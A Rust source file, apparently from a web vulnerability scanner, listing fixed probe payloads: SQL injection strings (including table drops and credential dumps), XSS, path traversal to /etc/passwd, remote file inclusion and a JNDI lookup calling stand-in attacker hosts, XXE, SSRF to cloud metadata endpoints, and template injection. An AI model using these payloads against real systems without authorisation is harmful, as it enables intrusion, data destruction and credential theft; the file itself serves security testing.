// src/core/probe/payloads.rs

//! Fixed payload lists, one per probe class, plus the follow-up batteries
//! used against zero-day candidates.

pub static SQL_INJECTION: &[&str] = &[
    "' OR '1'='1",
    "' UNION SELECT null,null,null--",
    "'; DROP TABLE users;--",
    "' OR 1=1--",
    "' UNION SELECT database(),user(),version()--",
    "admin'--",
    "admin' #",
    "admin'/*",
    "' or 1=1#",
    "' or 1=1--",
    "' or 1=1/*",
    "') or '1'='1--",
    "') or ('1'='1--",
    "' OR '1'='1' LIMIT 1--",
    "' UNION SELECT table_name,null FROM information_schema.tables--",
    "' AND (SELECT * FROM users WHERE 1=1)--",
    "'; SELECT * FROM users--",
    "' AND 1=CAST((SELECT version()) AS INT)--",
    "' AND LENGTH(database())>0--",
    "' OR EXISTS(SELECT * FROM users)--",
    "' UNION SELECT username,password FROM users--",
    "' AND 1=CONVERT(INT, (SELECT @@version))--",
    "'; WAITFOR DELAY '0:0:5'--",
    "' OR IF(1=1, SLEEP(5), 0)--",
    "' OR pg_sleep(5)--",
    "' OR (SELECT COUNT(*) FROM users)>0--",
    "' AND ASCII(SUBSTRING((SELECT database()),1,1))>0--",
    "' OR 'text' = 'te' + 'xt'--",
    "' OR 1=1 ORDER BY 1--",
    "' OR 1=1 GROUP BY 1--",
    "' HAVING 1=1--",
    "' OR 1=1 INTO OUTFILE '/tmp/test.txt'--",
    "' UNION SELECT load_file('/etc/passwd'),null--",
    // MySQL
    "' AND (SELECT * FROM (SELECT COUNT(*), CONCAT((SELECT database()), FLOOR(RAND(0)*2)) AS x FROM information_schema.tables GROUP BY x) AS a)--",
    "' UNION SELECT 1,2,3 FROM information_schema.tables--",
    "' AND (SELECT * FROM users WHERE username='admin')--",
    // PostgreSQL
    "' UNION SELECT null,null,null FROM pg_database--",
    "' AND (SELECT current_database()) IS NOT NULL--",
    "' UNION SELECT usename,passwd FROM pg_shadow--",
    // MSSQL
    "' UNION SELECT null,null,null FROM sysobjects--",
    "' AND (SELECT name FROM master..sysdatabases)>0--",
    "' UNION SELECT name,password FROM master..syslogins--",
    // Oracle
    "' UNION SELECT null,null,null FROM all_tables--",
    "' AND (SELECT banner FROM v$version WHERE ROWNUM=1) IS NOT NULL--",
    "' UNION SELECT username,password FROM all_users--",
];

pub static XSS: &[&str] = &[
    "<script>alert('XSS')</script>",
    "<img src=x onerror=alert('XSS')>",
    "<svg onload=alert('XSS')>",
    "javascript:alert('XSS')",
    "<iframe src=javascript:alert('XSS')>",
    "<body onload=alert('XSS')>",
    "<input onfocus=alert('XSS') autofocus>",
    "<select onfocus=alert('XSS') autofocus>",
    "<textarea onfocus=alert('XSS') autofocus>",
    "<button onclick=alert('XSS')>click</button>",
];

pub static LFI: &[&str] = &[
    "../../../etc/passwd",
    "../../../../windows/system32/drivers/etc/hosts",
    "....//....//....//etc/passwd",
    "%2e%2e%2f%2e%2e%2f%2e%2e%2fetc%2fpasswd",
    "%252e%252e%252fetc%252fpasswd",
    "....//....//....//windows/win.ini",
    "../../../../../../../etc/passwd",
    "..%2f..%2f..%2f..%2f..%2fetc%2fpasswd",
    "..%252f..%252f..%252f..%252fetc%252fpasswd",
];

pub static RFI: &[&str] = &[
    "http://evil.com/shell.txt",
    "http://malicious.com/payload.php",
    "ftp://evil.com/backdoor.txt",
    "https://attacker.com/malware.txt",
    "php://filter/convert.base64-encode/resource=index.php",
    "data://text/plain,<?php echo 'test'; ?>",
    "expect://id",
    "input://<?php echo 'test'; ?>",
];

pub static COMMAND_INJECTION: &[&str] = &[
    ";id",
    "|id",
    "&&id",
    "||id",
    "`id`",
    "$(id)",
    ";whoami",
    "|whoami",
    "&&whoami",
    ";ping -c 1 127.0.0.1",
    "|ping -n 1 127.0.0.1",
    ";net user",
    "|net user",
];

pub static XXE: &[&str] = &[
    r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>"#,
    r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///c:/windows/win.ini">]><foo>&xxe;</foo>"#,
    r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/hostname">]><foo>&xxe;</foo>"#,
    r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><foo>&xxe;</foo>"#,
    r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY xxe SYSTEM "expect://id">]><foo>&xxe;</foo>"#,
    r#"<?xml version="1.0"?><!DOCTYPE foo [<!ENTITY % remote SYSTEM "http://127.0.0.1/evil.dtd"> %remote;]><foo>probe</foo>"#,
];

pub static SSRF: &[&str] = &[
    "http://127.0.0.1/",
    "http://localhost:22/",
    "http://0.0.0.0:80/",
    "http://[::1]/",
    "http://169.254.169.254/latest/meta-data/",
    "http://169.254.169.254/metadata/instance?api-version=2021-02-01",
    "http://metadata.google.internal/computeMetadata/v1/",
    "file:///etc/passwd",
    "gopher://127.0.0.1:6379/_INFO",
    "dict://127.0.0.1:11211/stats",
];

/// Input names recognized as anti-CSRF tokens (compared lowercase).
pub static CSRF_TOKEN_FIELDS: &[&str] = &[
    "csrf",
    "xsrf",
    "_token",
    "authenticity_token",
    "__requestverificationtoken",
    "nonce",
];

/// State-changing endpoints targeted by the opt-in forged-POST check.
pub static CSRF_SENSITIVE_PATHS: &[&str] = &[
    "/change-password",
    "/delete-account",
    "/update-email",
    "/transfer",
    "/settings/profile",
];

// --- Zero-day follow-up batteries ---

/// Ever longer inputs: 100, 200, ... 1000 characters.
pub fn buffer_overflow() -> Vec<String> {
    (1..=10).map(|i| "A".repeat(i * 100)).collect()
}

pub static ZERO_DAY_INJECTION: &[&str] = &[
    "'; WAITFOR DELAY '0:0:5'--",
    "'; SELECT pg_sleep(5)--",
    "<svg/onload=alert(document.cookie)>",
    "${jndi:ldap://malicious.com/exploit}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{7*7}",
    "${7*7}",
    "{{config}}",
];

pub static ZERO_DAY_BYPASS: &[&str] = &[
    "..%2f..%2f..%2fetc%2fpasswd",
    "....//....//....//etc/passwd",
    "%252e%252e%252fetc%252fpasswd",
    "..\\..\\..\\windows\\system32\\drivers\\etc\\hosts",
    "<scr<script>ipt>alert('XSS')</scr</script>ipt>",
    "<img src=x onerror=alert('XSS')>",
    "' or 1=1--",
    "admin'--",
    "' or '1'='1'--",
    "1' OR 1--",
];

pub static ZERO_DAY_ADVANCED: &[&str] = &[
    "${jndi:ldap://127.0.0.1:1389/a}",
    "{{constructor.constructor('alert(1)')()}}",
    "#{7*7}",
    "<svg/onload=alert(document.domain)>",
    "'; WAITFOR DELAY '0:0:3'--",
    "../../../etc/passwd%00",
    "php://filter/convert.base64-encode/resource=config.php",
    "expect://id",
    "data://text/plain;base64,PD9waHAgcGhwaW5mbygpOyA/Pg==",
    "<iframe src=javascript:alert('XSS')></iframe>",
];

pub fn to_owned(list: &[&str]) -> Vec<String> {
    list.iter().map(|p| p.to_string()).collect()
}
